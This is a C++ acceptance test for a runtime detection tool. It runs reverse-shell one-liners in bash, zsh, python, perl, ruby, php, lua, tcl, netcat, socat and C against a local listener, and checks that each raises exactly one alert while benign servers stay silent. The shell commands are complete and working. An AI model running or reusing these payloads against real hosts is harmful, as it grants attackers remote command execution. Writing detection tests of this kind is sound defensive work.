// DE3: a reverse shell of the dup2 kind is one alert, whatever language or tool makes it; servers
// that look alike are none.
#include "tests/acceptance/shell_test.h"

namespace picket::test {
namespace {

struct Shell {
  const char* name;
  std::vector<std::string> command;  // PORT stands for the listener's port
};

const std::vector<Shell>& shells() {
  static const std::vector<Shell> all = {
      {"bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"}},
      {"zsh",
       {"zsh", "-c",
        "zmodload zsh/net/tcp; ztcp 127.0.0.1 PORT; exec sh <&$REPLY >&$REPLY 2>&$REPLY"}},
      {"python",
       {"python3", "-c",
        "import os, socket\ns = socket.create_connection(('127.0.0.1', PORT))\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\nos.execl('/bin/sh', 'sh')"}},
      {"perl",
       {"perl", "-MSocket", "-e",
        "socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(PORT, inet_aton('127.0.0.1')));"
        "open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh');"}},
      {"ruby",
       {"ruby", "-rsocket", "-e",
        "s = TCPSocket.new('127.0.0.1', PORT); exec('/bin/sh', 0 => s, 1 => s, 2 => s)"}},
      {"php",
       {"php", "-r",
        "$s = fsockopen('127.0.0.1', PORT); $p = proc_open('/bin/sh', [$s, $s, $s], $pipes);"
        "proc_close($p);"}},
      {"lua",
       {"lua5.4", "-e",
        "local s = require('socket').tcp(); s:connect('127.0.0.1', PORT); local fd = "
        "math.floor(s:getfd()) "
        "os.execute('exec sh <&' .. fd .. ' >&' .. fd .. ' 2>&' .. fd)"}},
      {"tcl",
       {"sh", "-c",
        "printf 'set s [socket 127.0.0.1 PORT]\\nexec /bin/sh <@$s >@$s 2>@$s\\n' | tclsh"}},
      {"nc.traditional", {"nc.traditional", "-e", "/bin/sh", "127.0.0.1", "PORT"}},
      {"busybox nc", {"busybox", "nc", "127.0.0.1", "PORT", "-e", "/bin/sh"}},
      {"socat", {"socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh,nofork"}},
      {"C dup2", {"reverse_shell", "dup2", "PORT"}},
      {"C dup3", {"reverse_shell", "dup3", "PORT"}},
      {"C fcntl", {"reverse_shell", "fcntl", "PORT"}},
      {"C connect after dup2", {"reverse_shell", "late", "PORT"}},
      {"C connect after dup2, child shell", {"reverse_shell", "late-child", "PORT"}},
      {"C connect of descriptor 0, child shell", {"reverse_shell", "closed-child", "PORT"}},
      {"python connect after dup2, child shell",
       {"python3", "-c",
        "import os, socket, subprocess\ns = socket.socket()\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1)]\n"
        "s.connect(('127.0.0.1', PORT))\nsubprocess.call('/bin/sh')"}},
  };
  return all;
}

constexpr int kFirstPort = 4401;
constexpr std::string_view kHonestServers = "HonestServersStaySilent";

std::vector<std::string> with_port(std::vector<std::string> command, int port) {
  for (std::string& word : command)
    for (size_t at; (at = word.find("PORT")) != std::string::npos;)
      word.replace(at, 4, std::to_string(port));
  return command;
}

class DE3 : public ShellTest {
 protected:
  void SetUp() override {
    AcceptanceTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    const bool honest =
        testing::UnitTest::GetInstance()->current_test_info()->name() == kHonestServers;
    deploy({.recording = recording_as(honest ? "honest_servers" : "reverse_shell")});
    if (HasFatalFailure()) return;
    container_ = make_container({.image = "tools"});
    ASSERT_TRUE(container_);
    ASSERT_EQ(run({"listener", std::to_string(kFirstPort), std::to_string(shells().size())}), 0);
  }

  void TearDown() override {
    if (deployment_) {
      EXPECT_TRUE(deployment().stop_agent().ok());  // which ends a recording well
    }
    AcceptanceTest::TearDown();
  }
};

TEST_F(DE3, EveryReverseShellIsOneAlert) {
  for (size_t i = 0; i < shells().size(); ++i) {
    int port = kFirstPort + static_cast<int>(i);
    auto ended = container_->run(with_port(shells()[i].command, port));
    ASSERT_TRUE(ended.ok()) << shells()[i].name << ": " << ended.status();
    EXPECT_TRUE(proof_came(port)) << shells()[i].name << " gave no shell: " << ended->out;
  }

  auto alerts = accusations(alerts_so_far(*container_));
  for (size_t i = 0; i < shells().size(); ++i) {
    std::string port = std::to_string(kFirstPort + static_cast<int>(i));
    std::vector<Alert> own;
    for (const Alert& alert : by_rule(alerts, "reverse_shell"))
      if (alert["fields"].value("proc.stdin.remote_port", "") == port) own.push_back(alert);
    EXPECT_EQ(own.size(), 1u) << shells()[i].name << ": " << Alert(own).dump(1);
    for (const Alert& alert : own) {
      expect_identity(alert, *container_);
      EXPECT_EQ(tree_of(alert).back(), container_->init_pid()) << alert;
      EXPECT_THAT(alert["tags"].get<std::vector<std::string>>(), ::testing::Contains("T1059.004"));
    }
  }
  // Nothing else is accused: not the listener, not what the shells ran.
  EXPECT_EQ(alerts.size(), shells().size()) << Alert(alerts).dump(1);
}

TEST_F(DE3, HonestServersStaySilent) {
  ASSERT_EQ(run({"servers", "inetd", "4500"}), 0);
  ASSERT_EQ(run({"servers", "client", "4500"}), 0);
  ASSERT_EQ(run({"servers", "editor", "4501"}), 0);
  ASSERT_EQ(run({"servers", "client", "4501"}), 0);
  ASSERT_EQ(run({"servers", "language", std::to_string(kFirstPort)}), 0);
  auto alerts = accusations(alerts_so_far(*container_));
  EXPECT_TRUE(alerts.empty()) << Alert(alerts).dump(1);
}

}  // namespace
}  // namespace picket::test
